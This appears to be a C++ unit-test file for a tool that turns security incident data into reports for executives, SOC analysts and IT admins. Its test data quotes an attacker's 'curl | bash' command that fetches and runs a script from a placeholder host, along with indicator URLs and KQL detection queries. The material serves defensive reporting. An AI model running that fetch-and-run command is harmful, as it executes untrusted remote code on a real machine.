// Each audience's report: its length and tone, and the facts it must carry.
#include <regex>

#include <gtest/gtest.h>

#include "incident/report.hpp"
#include "test_data.hpp"

namespace incident {
namespace {

using testing::summarize_file;

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

std::size_t words(const std::string& text) {
  std::size_t count = 0;
  bool in_word = false;
  for (char c : text) {
    const bool space = std::isspace(static_cast<unsigned char>(c)) != 0;
    count += !space && !in_word;
    in_word = !space;
  }
  return count;
}

Report report_on(const std::string& file, Audience audience) {
  return write_report(summarize_file(file), audience);
}

const ReportSection* section(const Report& report, const std::string& id) {
  for (const auto& item : report.sections)
    if (item.id == id) return &item;
  return nullptr;
}

constexpr const char* kIncidents[] = {"defender_xdr_incident.json",
                                      "defender_xdr_api_incident.json", "sentinel_incident.json",
                                      "generic_incident.json", "session_export.json"};

TEST(CisoReport, IsShortPlainAndAsksForDecisions) {
  for (const char* file : kIncidents) {
    const Report ciso = report_on(file, Audience::ciso);
    const Report analyst = report_on(file, Audience::soc_analyst);
    EXPECT_LE(words(ciso.markdown), 250u) << file << "\n" << ciso.markdown;
    EXPECT_LT(words(ciso.markdown) * 3, words(analyst.markdown)) << file;
    // The body (not the title, which is the incident's own) has no technical detail.
    std::string body;
    for (const auto& item : ciso.sections)
      body += item.markdown;
    EXPECT_FALSE(std::regex_search(body, std::regex(R"(\bT1\d{3}\b)"))) << file << body;
    EXPECT_FALSE(std::regex_search(body, std::regex(R"(\b\d{1,3}(\.\d{1,3}){3}\b)"))) << body;
    EXPECT_FALSE(std::regex_search(body, std::regex(R"(\b[0-9a-f]{32,64}\b)"))) << body;
    for (const char* jargon : {"IOC", "KQL", "C2", "PowerShell", "EDR", "ATT&CK", "hash",
                               "update-check.example.net", "`"})
      EXPECT_FALSE(contains(body, jargon)) << file << ": '" << jargon << "' in\n" << body;
    std::vector<std::string> titles;
    for (const auto& item : ciso.sections)
      titles.push_back(item.title);
    EXPECT_EQ(titles, (std::vector<std::string>{"What happened", "Business impact", "Risk",
                                                "Decisions needed"}));
  }
}

TEST(CisoReport, SpeaksOfTheStorylineInBusinessTerms) {
  const Report ciso = report_on("defender_xdr_incident.json", Audience::ciso);
  EXPECT_EQ(ciso.title,
            "Security incident briefing: Multi-stage incident involving Execution & Command and "
            "control on multiple endpoints");
  EXPECT_TRUE(
      contains(ciso.markdown, "On 20 November 2026, an attacker ran unauthorised programs"));
  EXPECT_TRUE(contains(ciso.markdown, "2 company computers (ws-fin-07 and mbp-fin-12)"));
  EXPECT_TRUE(contains(ciso.markdown, "2 employee accounts (Marta Rivera and Jun Chen)"));
  EXPECT_TRUE(contains(section(ciso, "risk")->markdown, "**High.**"));
  EXPECT_TRUE(contains(section(ciso, "decisions")->markdown, "Approve taking 2 computers offline"));
}

TEST(AnalystReport, HasTheTimelineInOrderAndEveryIndicator) {
  const Report report = report_on("defender_xdr_incident.json", Audience::soc_analyst);
  const std::string& md = report.markdown;
  EXPECT_EQ(report.title.rfind("Incident report: ", 0), 0u);
  const std::string& timeline = section(report, "timeline")->markdown;
  EXPECT_TRUE(contains(timeline, "| Time (UTC) | Source | Event |"));
  const auto powershell =
      timeline.find("| 2026-11-20T09:02:11Z | Suspicious PowerShell command line |");
  const auto created = timeline.find("| 2026-11-20T09:03:07Z | incident | Incident created |");
  const auto mac = timeline.find("| 2026-11-20T09:14:03Z | Suspicious 'curl \\| bash'");
  ASSERT_NE(powershell, std::string::npos) << timeline;
  ASSERT_NE(created, std::string::npos) << timeline;
  ASSERT_NE(mac, std::string::npos) << timeline;
  EXPECT_LT(powershell, created);
  EXPECT_LT(created, mac);
  const std::string& indicators = section(report, "indicators")->markdown;
  for (const char* ioc :
       {"`203.0.113.45`", "`update-check.example.net`",
        "`https://update-check.example.net/agent.sh`", "`http://203.0.113.45/p.ps1`",
        "`684c9d3df55b7db70dcd7db5708488a3c49716641aadb6535d68b8f2d669ebfd`",
        "`7a3ca518880064ea59c96a2d6e79cc6e6f18b9b8`",
        "`/Users/jchen/Library/LaunchAgents/com.update-check.agent.plist`"})
    EXPECT_TRUE(contains(indicators, ioc)) << ioc << " in\n" << indicators;
  EXPECT_TRUE(contains(md,
                       "| `T1543.001` | Create or Modify System Process: Launch Agent | "
                       "Persistence |"));
  EXPECT_TRUE(contains(md,
                       "```text\n/bin/bash -c \"curl -fsSL "
                       "https://update-check.example.net/agent.sh | bash\"\n```"));
  const std::string& queries = section(report, "queries")->markdown;
  EXPECT_TRUE(contains(queries, "DeviceNetworkEvents"));
  EXPECT_TRUE(contains(queries, "RemoteIP in (@\"203.0.113.45\")"));
  EXPECT_TRUE(contains(queries, "RemoteUrl has_any (@\"update-check.example.net\")"));
  EXPECT_TRUE(contains(queries, "ProcessCommandLine contains @\"/bin/bash -c \"\"curl"));
  EXPECT_TRUE(
      contains(section(report, "next_steps")->markdown, "1. Isolate ws-fin-07.corp.example"));
  EXPECT_GT(words(md), 600u);
}

TEST(AnalystReport, KeepsInternalAddressesOutOfTheIndicators) {
  const Report report = report_on("sentinel_incident.json", Audience::soc_analyst);
  const std::string& indicators = section(report, "indicators")->markdown;
  EXPECT_TRUE(contains(indicators, "**IP addresses:** `203.0.113.45`\n"));
  EXPECT_TRUE(contains(indicators, "Internal addresses seen (not indicators): `10.20.7.31`"));
  EXPECT_FALSE(contains(section(report, "queries")->markdown, "10.20.7.31"));
  EXPECT_TRUE(contains(section(report, "gaps")->markdown, "skipped 1 Malware"));
}

TEST(AdminReport, NamesTheMachinesAccountsAndConcreteSteps) {
  const Report report = report_on("generic_incident.json", Audience::it_admin);
  const std::string& machines = section(report, "machines")->markdown;
  EXPECT_TRUE(
      contains(machines, "| **ws-fin-07.corp.example** | Windows 11 23H2 | mrivera@corp.example |"))
      << machines;
  EXPECT_TRUE(contains(machines, "| **mbp-fin-12** | macOS 13.6.1 | jchen@corp.example |"));
  EXPECT_TRUE(contains(section(report, "accounts")->markdown, "| jchen@corp.example | Jun Chen |"));
  const std::string& steps = section(report, "steps")->markdown;
  EXPECT_TRUE(contains(steps,
                       "1. Isolate **ws-fin-07.corp.example**: in Microsoft Defender for "
                       "Endpoint, open the device and choose **Isolate device**"))
      << steps;
  EXPECT_TRUE(contains(steps,
                       "2. Isolate **mbp-fin-12**: with your EDR's or MDM's network "
                       "containment"));
  // The launch agent is removed on the Mac only, with its user and path, inside step 3.
  EXPECT_TRUE(contains(steps,
                       "3. On **mbp-fin-12**, unload and delete the launch agent:\n   \n   "
                       "```sh\n   launchctl bootout gui/$(id -u jchen) "
                       "/Users/jchen/Library/LaunchAgents/com.update-check.agent.plist\n   "
                       "rm /Users/jchen/Library/LaunchAgents/com.update-check.agent.plist\n"))
      << steps;
  EXPECT_FALSE(contains(steps, "On **ws-fin-07.corp.example**, unload"));
  EXPECT_TRUE(contains(steps, "Block `203.0.113.45` in both directions"));
  EXPECT_TRUE(contains(steps,
                       "Block `update-check.example.net` at the web proxy and add it to the "
                       "DNS block list"));
  EXPECT_TRUE(contains(steps, "`Revoke-MgUserSignInSession -UserId jchen@corp.example`"));
  EXPECT_TRUE(contains(steps, "Turn on PowerShell script block logging"));
  EXPECT_TRUE(contains(section(report, "verification")->markdown,
                       "- [ ] `/Users/jchen/Library/LaunchAgents/com.update-check.agent.plist` no "
                       "longer exists on mbp-fin-12."));
}

TEST(AdminReport, WindowsPersistenceGetsWindowsCommands) {
  const Report report = write_report(
      summarize(testing::read_text(R"({"title": "Run key", "severity": "high", "alerts": [
        {"id": "a1", "title": "Autostart added", "techniques": ["T1547.001", "T1053.005"],
         "entities": {"hosts": [{"name": "ws-fin-07", "os": "Windows 11"}]}}]})")),
      Audience::it_admin);
  const std::string& steps = section(report, "steps")->markdown;
  EXPECT_TRUE(
      contains(steps, "`reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`"))
      << steps;
  EXPECT_TRUE(contains(steps, "`schtasks /delete /tn <name> /f`"));
  EXPECT_FALSE(contains(steps, "launchctl"));
}

TEST(SessionReport, ReportsTheFindingsAndTheFailedStep) {
  const Report report = report_on("session_export.json", Audience::soc_analyst);
  EXPECT_EQ(report.source_kind, "session");
  EXPECT_EQ(report.title, "Investigation report: Finance endpoints beaconing to 203.0.113.45");
  const std::string& findings = section(report, "findings")->markdown;
  EXPECT_TRUE(contains(findings,
                       "- `ThreatIntel.LookupIndicator`: 203.0.113.45 (ipv4): malicious, "
                       "confidence 90"))
      << findings;
  EXPECT_TRUE(contains(findings,
                       "- `ScriptAnalysis.AnalyzeScript`: verdict malicious (score 75): "
                       "Downloads and runs code"));
  EXPECT_TRUE(contains(findings, "failed (invalid\\_input): 'mbp-fin-12' is not an IP"));
  // The incident summarized during the session is merged in.
  EXPECT_TRUE(contains(section(report, "indicators")->markdown, "`update-check.example.net`"));
  EXPECT_TRUE(contains(section(report, "timeline")->markdown, "Investigation session started"));
}

TEST(Reports, AreDeterministic) {
  for (const char* file : kIncidents)
    for (Audience audience : {Audience::ciso, Audience::soc_analyst, Audience::it_admin})
      EXPECT_EQ(report_on(file, audience).markdown, report_on(file, audience).markdown) << file;
}

TEST(Reports, TextFromTheInputCannotAddMarkdown) {
  const Report report = write_report(
      summarize(testing::read_text(R"({"title": "Phish [click](http://198.51.100.9/x) | *bold*",
        "alerts": [{"title": "a\n## Fake heading | cell", "time": "2026-11-20T09:00:00Z"}]})")),
      Audience::soc_analyst);
  EXPECT_TRUE(
      contains(report.markdown,
               "# Incident report: Phish \\[click\\](http://198.51.100.9/x) \\| \\*bold\\*\n"))
      << report.markdown;
  EXPECT_FALSE(contains(report.markdown, "\n## Fake heading"));
  EXPECT_TRUE(contains(report.markdown, "Alert: a \\#\\# Fake heading \\| cell (unknown) |"));
}

TEST(Reports, AudiencesHaveAliases) {
  EXPECT_EQ(parse_audience("CISO"), Audience::ciso);
  EXPECT_EQ(parse_audience("executive"), Audience::ciso);
  EXPECT_EQ(parse_audience("soc-analyst"), Audience::soc_analyst);
  EXPECT_EQ(parse_audience("SOC analyst"), Audience::soc_analyst);
  EXPECT_EQ(parse_audience("it_admin"), Audience::it_admin);
  EXPECT_EQ(parse_audience("admin"), Audience::it_admin);
  EXPECT_FALSE(parse_audience("board"));
  EXPECT_EQ(audience_name(Audience::it_admin), "it_admin");
}

TEST(Reports, TheJsonHasEverySectionAndTheWholeMarkdown) {
  const Summary summary = summarize_file("sentinel_incident.json");
  const Report report = write_report(summary, Audience::it_admin);
  const auto json = report_json(report, summary);
  EXPECT_EQ(json.at("audience"), "it_admin");
  EXPECT_EQ(json.at("source_shape"), "sentinel");
  EXPECT_EQ(json.at("severity"), "high");
  EXPECT_EQ(std::string(json.at("markdown").as_string()), report.markdown);
  EXPECT_EQ(json.at("sections").as_array().size(), report.sections.size());
  EXPECT_EQ(json.at("word_count").as_uint64(), words(report.markdown));
}

}  // namespace
}  // namespace incident
